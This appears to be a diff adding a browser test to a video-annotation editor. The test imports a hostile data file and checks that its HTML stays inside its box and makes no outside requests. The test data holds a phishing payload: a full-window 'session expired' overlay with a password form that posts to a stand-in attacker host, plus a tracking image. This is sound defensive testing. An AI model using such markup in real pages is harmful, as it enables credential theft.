@@ -307,6 +307,42 @@ async function checkExportedPage(
   }
 }
 
+/**
+ * A Popcorn data file no one here would write: a text event whose html draws a full-window "session expired" form
+ * over whatever shows it and fetches from another origin.
+ */
+const PHISHING =
+  '<div style="position:fixed;inset:0;z-index:2147483647;background:white">Session expired, sign in again' +
+  '<form action="https://evil.example/steal"><input type="password" name="p"><button>Sign in</button></form>' +
+  '<img src="https://evil.example/t.png" alt=""></div>';
+const HOSTILE_FILE = JSON.stringify({ data: [{ text: { start: 1, end: 20, html: PHISHING } }] });
+
+/**
+ * What the file's html could do to the page it is shown in: fields to type a password into, an element laid over
+ * the window, anything drawn outside the window's box. The editor's own fields are not the file's: only what holds
+ * the file's text is looked at.
+ */
+async function hostileTraces(page: Page): Promise<{ shown: number; fields: number; fixed: number; covering: number }> {
+  return page.evaluate(() => {
+    const holders = [...document.querySelectorAll<HTMLElement>("body *")].filter(
+      (element) => element.children.length === 0 && element.textContent?.includes("Session expired"),
+    );
+    const around = holders.map(
+      (holder) => holder.closest("[contenteditable], [data-pke-outlet], aside, div") ?? holder,
+    );
+    const inside = around.flatMap((element) => [element, ...element.querySelectorAll<HTMLElement>("*")]);
+    return {
+      shown: holders.length,
+      fields: document.querySelectorAll('form, input[type="password"]').length,
+      fixed: inside.filter((element) => getComputedStyle(element).position === "fixed").length,
+      covering: inside.filter((element) => {
+        const box = element.getBoundingClientRect();
+        return box.width >= window.innerWidth * 0.9 && box.height >= window.innerHeight * 0.9;
+      }).length,
+    };
+  });
+}
+
 describe("the editor, as a new user drives it", () => {
   test("with the mouse: a footnote from the palette to the exported page", async () => {
     const { page, problems } = await openApp("light");
@@ -485,6 +521,84 @@ describe("the editor, as a new user drives it", () => {
       await expect.poll(() => exportedCode(page)).toContain("<!doctype html>");
       await checkExportedPage(await exportedCode(page), inEditor, "exported-keyboard");
       await page.keyboard.press("Escape");
+      expect(problems).toEqual([]);
+    } finally {
+      await page.context().close();
+    }
+  }, 120_000);
+
+  test("a hostile data file imported, inspected, recovered and exported: its html keeps to its box, nothing is requested elsewhere", async () => {
+    const { page, problems } = await openApp("light");
+    const own = new URL(served.url).origin;
+    const elsewhere: string[] = [];
+    const watch = (target: Page) =>
+      target.on("request", (request) => {
+        const url = request.url();
+        if (/^https?:/.test(url) && new URL(url).origin !== own) elsewhere.push(url);
+      });
+    watch(page);
+    try {
+      await page.getByRole("button", { name: "Media", exact: true }).click();
+      await page.getByRole("button", { name: /Lisbon harbour/ }).click();
+      await untilMediaReady(page);
+
+      // Imported as a person imports a file: the dialog's file field.
+      await page.getByRole("button", { name: "Import", exact: true }).click();
+      await page
+        .getByLabel("File to import")
+        .setInputFiles({ name: "hostile.json", mimeType: "application/json", buffer: Buffer.from(HOSTILE_FILE) });
+      await page.getByRole("button", { name: "Done", exact: true }).click();
+
+      // Inspected: the event selected, its html in the inspector's rich-text box, the stage showing it at 5 s.
+      const inspect = async () => {
+        await page.locator('[data-pke-drop="timeline"]').getByRole("button", { name: /^Text/ }).click();
+        const box = page.getByRole("complementary", { name: "Inspector" }).getByRole("textbox", { name: /^HTML/i });
+        await expect.poll(async () => (await box.textContent()) ?? "").toContain("Session expired");
+        await showFrameAt(page, 5);
+        await expect.poll(async () => (await hostileTraces(page)).shown).toBeGreaterThanOrEqual(2);
+        expect(await hostileTraces(page)).toMatchObject({ fields: 0, fixed: 0, covering: 0 });
+      };
+      await inspect();
+
+      // Recovered: autosave has it; a reload offers it back.
+      await page.waitForFunction(
+        () => document.querySelector(".pke-files-autosave")?.getAttribute("data-status") === "saved",
+      );
+      await page.reload();
+      await page.getByRole("region", { name: "Recover a project" }).getByRole("button", { name: "Recover" }).click();
+      await untilMediaReady(page);
+      await inspect();
+
+      // Exported: the React code loads the file's html as a data track; the HTML page shows it inside its box.
+      await page.getByRole("button", { name: "Export", exact: true }).click();
+      await page.getByRole("tab", { name: "React" }).click();
+      const code = page.getByRole("dialog").locator("code");
+      await expect.poll(async () => (await code.textContent()) ?? "").toContain("<TrackEventViews");
+      await page.getByRole("tab", { name: "HTML page" }).click();
+      await expect.poll(async () => (await code.textContent()) ?? "").toContain("<!doctype html>");
+      writeFileSync(join(app, "exported-hostile.html"), (await code.textContent()) ?? "");
+      const exported = await browser.newPage({ viewport: { width: 1440, height: 900 } });
+      watch(exported);
+      try {
+        await exported.goto(`${served.url}exported-hostile.html`);
+        await exported.waitForFunction(() => (document.querySelector("video")?.readyState ?? 0) >= 2, null, {
+          timeout: 20_000,
+        });
+        await exported.evaluate(
+          () =>
+            new Promise<void>((done) => {
+              const video = document.querySelector("video") as HTMLVideoElement;
+              video.addEventListener("seeked", () => done(), { once: true });
+              video.currentTime = 5;
+            }),
+        );
+        await expect.poll(async () => (await hostileTraces(exported)).shown).toBe(1);
+        expect(await hostileTraces(exported)).toMatchObject({ fields: 0, fixed: 0, covering: 0 });
+        await exported.waitForLoadState("networkidle");
+      } finally {
+        await exported.close();
+      }
+      expect(elsewhere).toEqual([]);
       expect(problems).toEqual([]);
     } finally {
       await page.context().close();
